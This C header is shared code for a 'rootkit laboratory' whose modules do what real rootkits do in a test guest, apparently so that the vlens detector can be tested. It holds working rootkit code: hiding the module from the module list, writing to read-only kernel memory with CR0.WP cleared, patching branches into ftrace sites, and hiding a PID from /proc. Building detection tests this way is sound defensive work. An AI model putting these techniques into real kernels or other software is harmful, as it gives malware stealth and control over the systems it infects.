/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * Shared code of the rootkit laboratory's modules. Each module does one thing that real rootkits
 * do, in a test guest, so that the tests can show that vlens finds it. Only these modules may
 * depend on a kernel's version.
 */
#ifndef LAB_H
#define LAB_H

#include <linux/types.h>

#include <linux/delay.h>
#include <linux/dirent.h>
#include <linux/fs.h>
#include <linux/kernel.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/preempt.h>
#include <linux/sched.h>
#include <linux/slab.h>
#include <linux/string.h>
#include <linux/uaccess.h>
#include <linux/version.h>

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("Rootkit laboratory of vlens");

/* Result of a function that adds one entry to the caller's buffer: whether to go on. */
#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 1, 0) /* 25885a35a720 */
typedef bool lab_fill;
#define LAB_GO_ON true
#else
typedef int lab_fill;
#define LAB_GO_ON 0
#endif

static unsigned long (*lab_kallsyms)(const char *name);

/*
 * The address of a kernel symbol, or 0. kallsyms_lookup_name() is not exported: a kprobe finds it.
 */
static inline unsigned long lab_symbol(const char *name)
{
	struct kprobe probe = { .symbol_name = "kallsyms_lookup_name" };
	unsigned long ret;

	if (!lab_kallsyms) {
		if (register_kprobe(&probe))
			return 0;
		lab_kallsyms = (void *)probe.addr;
		unregister_kprobe(&probe);
	}
	ret = lab_kallsyms(name);
	if (!ret)
		pr_err("lab: no symbol %s\n", name);
	return ret;
}

/*
 * LAB_LISTED: the parameter `listed` removes the module from the list of modules (0) and puts it
 * back (1), so that it can be unloaded.
 */
static __maybe_unused int lab_set_listed(const char *text, const struct kernel_param *kp)
{
	struct list_head *list = &THIS_MODULE->list, *modules = (void *)lab_symbol("modules");
	bool listed;
	int ret = kstrtobool(text, &listed);

	if (ret || !modules)
		return ret ? ret : -ENOENT;
	if (!listed)
		list_del_init(list);
	else if (list_empty(list))
		list_add(list, modules);
	return 0;
}

static __maybe_unused const struct kernel_param_ops lab_listed_ops = { .set = lab_set_listed };
#define LAB_LISTED module_param_cb(listed, &lab_listed_ops, NULL, 0200)

/* Write @size bytes to read-only memory of the kernel, as rootkits do: with CR0.WP off. */
static inline void lab_write(void *to, const void *from, size_t size)
{
	unsigned long flags, cr0;

	local_irq_save(flags);
	asm volatile("mov %%cr0, %0" : "=r"(cr0));
	asm volatile("mov %0, %%cr0" : : "r"(cr0 & ~(1UL << 16)) : "memory");
	memcpy(to, from, size);
	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
	local_irq_restore(flags);
}

/* Write jmp (0xe9) or call (0xe8) to @target at @site. */
static inline void lab_branch(unsigned long site, u8 opcode, unsigned long target)
{
	u8 code[5] = { opcode };
	s32 disp = (s32)(target - (site + 5));

	memcpy(code + 1, &disp, 4);
	lab_write((void *)site, code, 5);
}

/* The bytes at the place that lab_ftrace_site() found. */
static __maybe_unused u8 lab_nop5[5];

/* The five-byte place for ftrace at the entry of the function @name, or 0. */
static inline unsigned long lab_ftrace_site(const char *name)
{
	static const u8 nop5[] = { 0x0f, 0x1f, 0x44, 0x00, 0x00 },
			k8[] = { 0x66, 0x66, 0x66, 0x66, 0x90 };
	static const u8 endbr[] = { 0xf3, 0x0f, 0x1e, 0xfa };
	static const u8 nop4[] = { 0x66, 0x0f, 0x1f, 0x00 }, nop4b[] = { 0x0f, 0x1f, 0x40, 0x00 },
			nop4c[] = { 0x0f, 0x1f, 0x40, 0xd6 };
	unsigned long at = lab_symbol(name);
	const u8 *p = (const u8 *)at;

	if (!at)
		return 0;
	/* endbr64, or the nop that replaces it if nothing calls the function indirectly. */
	if (!memcmp(p, endbr, 4) || !memcmp(p, nop4, 4) || !memcmp(p, nop4b, 4) ||
	    !memcmp(p, nop4c, 4))
		p += 4;
	if (!memcmp(p, nop5, 5) || !memcmp(p, k8, 5)) {
		memcpy(lab_nop5, p, 5);
		return (unsigned long)p;
	}
	pr_err("lab: no place for ftrace in %s\n", name);
	return 0;
}

/* Wait until no CPU runs our functions any more: in a quiet guest 50 ms are enough. */
static inline void lab_drain(void)
{
	msleep(50);
}

/* The name in /proc to hide: a PID. */
static char *hide = "";
module_param(hide, charp, 0444);

static inline bool lab_hidden(const char *name, int len)
{
	return len == (int)strlen(hide) && !memcmp(name, hide, len);
}

/* Remove the hidden entry from the @size bytes that getdents64(@regs) returned; the new size. */
static inline long lab_filter(const struct pt_regs *regs, long size)
{
	char __user *user = (char __user *)regs->si;
	char *buf;
	long at = 0;

	if (size <= 0)
		return size;
	buf = kmalloc(size, GFP_KERNEL);
	if (!buf || copy_from_user(buf, user, size))
		goto out;
	while (at < size) {
		struct linux_dirent64 *d = (void *)(buf + at);
		long len = d->d_reclen;

		if (lab_hidden(d->d_name, strlen(d->d_name))) {
			memmove(buf + at, buf + at + len, size - at - len);
			size -= len;
		} else {
			at += len;
		}
	}
	if (copy_to_user(user, buf, size))
		pr_err("lab: copy_to_user\n");
out:
	kfree(buf);
	return size;
}

/* iterate_dir() calls the actor of its context with each name. Ours filters and calls theirs. */
struct lab_context {
	struct dir_context ctx;
	struct dir_context *theirs;
};

static __maybe_unused lab_fill lab_actor(struct dir_context *ctx, const char *name, int len,
					 loff_t pos, u64 ino, unsigned int type)
{
	struct lab_context *c = container_of(ctx, struct lab_context, ctx);

	if (lab_hidden(name, len))
		return LAB_GO_ON;
	c->theirs->pos = pos;
	return c->theirs->actor(c->theirs, name, len, pos, ino, type);
}

/* Call @iterate for @file with the hidden entry left out. */
static inline int lab_iterate(int (*iterate)(struct file *, struct dir_context *),
			      struct file *file, struct dir_context *ctx)
{
	struct lab_context c = { .theirs = ctx };
	int ret;

	/* The first two fields of a context are the same in all kernels; copy the others. */
	memcpy(&c.ctx, ctx, sizeof(c.ctx));
	*(filldir_t *)&c.ctx.actor = lab_actor;
	ret = iterate(file, &c.ctx);
	ctx->pos = c.ctx.pos;
	return ret;
}

#endif
